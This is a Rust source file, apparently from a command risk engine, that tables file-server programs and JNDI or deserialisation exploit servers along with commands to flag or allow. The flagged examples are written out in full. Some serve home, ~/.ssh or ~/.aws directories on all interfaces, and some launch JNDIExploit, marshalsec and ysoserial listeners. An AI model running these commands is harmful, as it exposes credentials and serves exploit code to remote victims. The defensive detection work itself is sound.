//! Programs that serve a directory over HTTP: one row per server, how it is
//! started, which option binds it and which names the directory. Serving
//! the home directory, a credential directory or `/` to the network hands
//! every file in it to whoever connects; a server bound to every interface
//! serves the network the machine is on.

/// One file server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct FileServer {
    /// The program's names.
    pub names: &'static [&'static str],
    /// The words that make it serve, in order at the start of its
    /// arguments (`-m http.server`, `-run -e httpd`), or none.
    pub words: &'static [&'static str],
    /// Options whose value is the address it binds (`ADDR`, `ADDR:PORT`,
    /// `tcp://ADDR:PORT`).
    pub bind_opts: &'static [&'static str],
    /// Options whose value is the directory served.
    pub dir_opts: &'static [&'static str],
    /// The first operand after `words` is the directory served.
    pub dir_operand: bool,
    /// Without a bind option it listens on every interface.
    pub binds_all: bool,
    /// Serving the project on every interface by default is asked about
    /// (Python's http.server, whose documentation warns of it); other dev
    /// servers' defaults are ordinary work.
    pub default_asks: bool,
    /// Where the knowledge comes from.
    pub source: &'static str,
    /// Commands the risk engine must flag.
    pub flagged: &'static [&'static str],
    /// Commands the risk engine must not flag.
    pub clean: &'static [&'static str],
}

const F: FileServer = FileServer {
    names: &[],
    words: &[],
    bind_opts: &[],
    dir_opts: &[],
    dir_operand: false,
    binds_all: true,
    default_asks: false,
    source: "",
    flagged: &[],
    clean: &[],
};

/// The table.
pub const FILE_SERVERS: &[FileServer] = &[
    FileServer {
        names: &["wsgidav"],
        bind_opts: &["--host", "-H"],
        dir_opts: &["--root", "-r"],
        binds_all: false,
        source: "https://wsgidav.readthedocs.io/en/latest/user_guide_cli.html (WebDAV over --root; --host picks the interface, localhost by default); 0xsyr0/OSCP (session 41)",
        flagged: &["wsgidav --host=0.0.0.0 --port=80 --auth=anonymous --root /home/dev/project"],
        clean: &["wsgidav --host=127.0.0.1 --port=8080 --root ./docs"],
        ..F
    },
    FileServer {
        names: &["smbserver.py", "impacket-smbserver"],
        bind_opts: &["-ip"],
        default_asks: true,
        source: "impacket's examples/smbserver.py (SHARENAME SHAREPATH served over SMB; binds 0.0.0.0 unless -ip)",
        flagged: &["smbserver.py -username u -password p share /home/dev", "impacket-smbserver share ."],
        ..F
    },
    FileServer {
        names: &["python", "python3", "python2"],
        words: &["-m", "uploadserver"],
        bind_opts: &["--bind", "-b"],
        dir_opts: &["--directory", "-d"],
        default_asks: true,
        source: "https://github.com/Densaugeo/uploadserver (http.server's options, plus uploads: binds all interfaces unless --bind)",
        flagged: &["python3 -m uploadserver", "python3 -m uploadserver 8000 --directory ~"],
        clean: &["python3 -m uploadserver --bind 127.0.0.1"],
        ..F
    },
    FileServer {
        names: &["python", "python3", "python2"],
        words: &["-m", "pyftpdlib"],
        bind_opts: &["-i", "--interface"],
        dir_opts: &["-d", "--directory"],
        default_asks: true,
        source: "https://pyftpdlib.readthedocs.io/en/latest/tutorial.html#command-line-usage (serves the working directory over FTP to every interface unless -i)",
        flagged: &["python3 -m pyftpdlib -p 21", "python3 -m pyftpdlib -w -d ~"],
        clean: &["python3 -m pyftpdlib -i 127.0.0.1 -p 2121"],
        ..F
    },
    FileServer {
        names: &["ftp-srv"],
        dir_opts: &["--root", "-r"],
        default_asks: true,
        source: "https://github.com/autovance/ftp-srv#cli (ftp-srv [url] --root DIR: an FTP server for the directory)",
        flagged: &["ftp-srv ftp://0.0.0.0:9876 --root /tmp"],
        ..F
    },
    FileServer {
        names: &["atftpd", "in.tftpd", "tftpd", "ptftpd"],
        dir_operand: true,
        default_asks: true,
        source: "man:atftpd(8), man:in.tftpd(8) (DIRECTORY served over TFTP, unauthenticated); https://pypi.org/project/ptftpd/ (ptftpd IFACE DIRECTORY)",
        flagged: &["atftpd --daemon --port 69 /tftp", "ptftpd -p 69 tap0 ."],
        ..F
    },
    FileServer {
        names: &["python", "python3", "python2"],
        words: &["-m", "http.server"],
        bind_opts: &["--bind", "-b"],
        dir_opts: &["--directory", "-d"],
        default_asks: true,
        source: "https://docs.python.org/3/library/http.server.html#command-line-interface (binds all interfaces unless --bind)",
        flagged: &["python3 -m http.server 8000 --directory ~", "python3 -m http.server --bind 0.0.0.0", "python3 -m http.server -d ~/.ssh", "python3 -m http.server 8000"],
        clean: &["python3 -m http.server --bind 127.0.0.1 8000"],
        ..F
    },
    FileServer {
        names: &["python", "python2"],
        words: &["-m", "SimpleHTTPServer"],
        default_asks: true,
        source: "https://docs.python.org/2/library/simplehttpserver.html",
        flagged: &["python2 -m SimpleHTTPServer 8080"],
        ..F
    },
    FileServer {
        names: &["php"],
        words: &["-S"],
        bind_opts: &["-S"],
        dir_opts: &["-t"],
        binds_all: false,
        source: "https://www.php.net/manual/en/features.commandline.webserver.php (-S ADDR:PORT, -t DOCROOT)",
        flagged: &["php -S 0.0.0.0:8000", "php -S 0.0.0.0:8000 -t ~"],
        clean: &["php -S localhost:8000 -t public"],
        ..F
    },
    FileServer {
        names: &["ruby"],
        words: &["-run", "-e", "httpd"],
        bind_opts: &["--bind-address", "-b"],
        dir_operand: true,
        default_asks: true,
        source: "https://docs.ruby-lang.org/en/master/un_rb.html (httpd [--bind-address=ADDR] [--port=PORT] [DOCROOT])",
        flagged: &["ruby -run -e httpd ~ -p 8000", "ruby -run -e httpd . -p 8000 -b 0.0.0.0"],
        clean: &["ruby -run -e httpd public -p 8000 -b 127.0.0.1"],
        ..F
    },
    FileServer {
        names: &["http-server"],
        bind_opts: &["-a"],
        dir_operand: true,
        source: "https://github.com/http-party/http-server#available-options (-a ADDR, default 0.0.0.0; [path] defaults to ./public or ./)",
        flagged: &["http-server ~ -p 8080", "npx http-server ~ -a 0.0.0.0"],
        clean: &["http-server dist -p 8080", "npx http-server ./public -a 127.0.0.1"],
        ..F
    },
    FileServer {
        names: &["serve"],
        bind_opts: &["-l", "--listen"],
        dir_operand: true,
        source: "https://github.com/vercel/serve#usage (serve [DIR], -l/--listen URI, default all interfaces)",
        flagged: &["npx serve ~", "serve -l tcp://0.0.0.0:3000 ~/.aws"],
        clean: &["npx serve -s build", "serve dist"],
        ..F
    },
    FileServer {
        names: &["miniserve", "dufs", "darkhttpd"],
        bind_opts: &["-i", "--interfaces", "-b", "--bind", "--addr"],
        dir_operand: true,
        source: "miniserve --help (-i/--interfaces, default all), https://github.com/sigoden/dufs (-b/--bind, default 0.0.0.0), darkhttpd(1) (--addr, default all)",
        flagged: &["miniserve ~", "dufs ~/.ssh -b 0.0.0.0", "darkhttpd ~"],
        clean: &["miniserve ./dist", "darkhttpd site --addr 127.0.0.1"],
        ..F
    },
    FileServer {
        names: &["updog"],
        bind_opts: &["-b", "--bind"],
        dir_opts: &["-d", "--directory"],
        source: "https://github.com/sc0tfree/updog (-d DIR, binds 0.0.0.0)",
        flagged: &["updog -d ~"],
        clean: &["updog -d ./share -b 127.0.0.1"],
        ..F
    },
    FileServer {
        names: &["twistd"],
        words: &["web"],
        dir_opts: &["--path"],
        source: "https://docs.twisted.org/en/stable/web/howto/using-twistedweb.html (twistd web --path DIR, all interfaces)",
        flagged: &["twistd -n web --path ~"],
        clean: &["twistd -n web --path ./site"],
        ..F
    },
    FileServer {
        names: &["caddy"],
        words: &["file-server"],
        bind_opts: &["--listen", "-l"],
        dir_opts: &["--root", "-r"],
        source: "https://caddyserver.com/docs/command-line#caddy-file-server (--root, --listen; default :80 on all interfaces)",
        flagged: &["caddy file-server --root ~ --listen :8080"],
        clean: &["caddy file-server --root ./public --listen 127.0.0.1:8080"],
        ..F
    },
];

/// A server run from a jar or a Java class that listens for other hosts'
/// callbacks: the JNDI and deserialisation exploit servers (LDAP, RMI and
/// HTTP referral servers that hand a victim a class to load). Matched by
/// the jar's file name (its prefix, case-insensitively: versions and
/// `-all` suffixes vary) or the main class named after `-cp`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct JvmServer {
    /// Jar name prefixes (`jndiexploit`) or main classes
    /// (`marshalsec.jndi.LDAPRefServer`).
    pub names: &'static [&'static str],
    /// What it serves, completing "starts ...".
    pub what: &'static str,
    /// Where the knowledge comes from.
    pub source: &'static str,
    /// Commands the risk engine must flag.
    pub flagged: &'static [&'static str],
    /// Commands the risk engine must not flag.
    pub clean: &'static [&'static str],
}

/// The table (session 38, htweb parts 0 and 2).
pub const JVM_SERVERS: &[JvmServer] = &[
    JvmServer {
        names: &["jndiexploit", "jndi-injection-exploit", "jndi-exploit-kit", "rogue-jndi", "roguejndi"],
        what: "a JNDI exploit server (LDAP, RMI and HTTP listeners that hand a remote victim code to run)",
        source: "https://github.com/feihong-cs/JNDIExploit (-i IP -p PORT); https://github.com/welk1n/JNDI-Injection-Exploit (-L, -J); https://github.com/veracode-research/rogue-jndi; HackTricks log4shell page",
        flagged: &[
            "java -jar JNDIExploit-1.2-SNAPSHOT.jar -i 172.17.0.1 -p 8888",
            "java -jar JNDI-Injection-Exploit-1.0-SNAPSHOT-all.jar -L 172.17.0.1:1389 -J 172.17.0.1:8888",
            "java -jar target/RogueJndi-1.1.jar --command 'id' --hostname 10.0.0.5",
        ],
        clean: &["java -jar build/libs/jndi-client.jar --help"],
    },
    JvmServer {
        names: &[
            "marshalsec.jndi.LDAPRefServer",
            "marshalsec.jndi.RMIRefServer",
            "ysoserial.exploit.JRMPListener",
            "ysoserial.exploit.JRMPClassLoadingListener",
        ],
        what: "a deserialisation exploit server (an LDAP, RMI or JRMP listener for remote victims)",
        source: "https://github.com/mbechler/marshalsec (jndi.LDAPRefServer, jndi.RMIRefServer); https://github.com/frohoff/ysoserial (exploit.JRMPListener)",
        flagged: &[
            "java -cp marshalsec-0.0.3-SNAPSHOT-all.jar marshalsec.jndi.LDAPRefServer \"http://10.0.0.5:8000/#Exploit\"",
            "java -cp ysoserial.jar ysoserial.exploit.JRMPListener 1099 CommonsCollections1 'id'",
        ],
        clean: &["java -cp marshalsec-0.0.3-SNAPSHOT-all.jar marshalsec.Jackson"],
    },
];

/// The row of a jar name or main class, if any.
pub fn jvm_server(jar_or_class: &str) -> Option<&'static JvmServer> {
    let l = jar_or_class.to_ascii_lowercase();
    JVM_SERVERS.iter().find(|r| {
        r.names.iter().any(|n| {
            let n = n.to_ascii_lowercase();
            if n.contains('.') {
                l == n
            } else {
                l.starts_with(&n)
            }
        })
    })
}
